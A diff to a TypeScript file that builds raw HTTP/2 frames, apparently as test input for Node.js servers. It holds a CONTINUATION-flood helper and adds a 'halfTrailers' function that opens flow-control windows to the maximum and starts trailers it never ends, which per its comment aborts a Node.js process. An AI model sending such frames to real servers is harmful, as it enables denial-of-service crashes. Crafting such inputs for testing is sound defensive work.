@@ -2,6 +2,8 @@
 const VALUE = 'x'.repeat(100);
 
 const HEADERS = 1;
+const SETTINGS = 4;
+const WINDOW_UPDATE = 8;
 const CONTINUATION = 9;
 
 /**
@@ -14,6 +16,20 @@ export function endlessHead(stream: number, host: string, frames: number): Buffe
   const field = Buffer.concat([Buffer.from([0]), text('x-flood'), text(VALUE)]);
   const more = frame(CONTINUATION, stream, field);
   return Buffer.concat([frame(HEADERS, stream, first), ...Array.from({ length: frames }, () => more)]);
+}
+
+/**
+ * Frames with which trailers begin and do not end, and which let the peer send as much as the kernel takes. A Node.js program that
+ * destroys such a session while it writes is aborted (`~Http2Session`, current_nghttp2_memory_).
+ */
+export function halfTrailers(stream: number): Buffer {
+  const field = Buffer.concat([Buffer.from([0]), text('x-half'), text(VALUE)]);
+  return Buffer.concat([
+    // SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, 6.5.2), and the window of the connection
+    frame(SETTINGS, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
+    frame(WINDOW_UPDATE, 0, Buffer.from([0x7f, 0xff, 0, 0])),
+    frame(HEADERS, stream, field),
+  ]);
 }
 
 /** Literal of HPACK without Huffman coding, shorter than 127 bytes. */
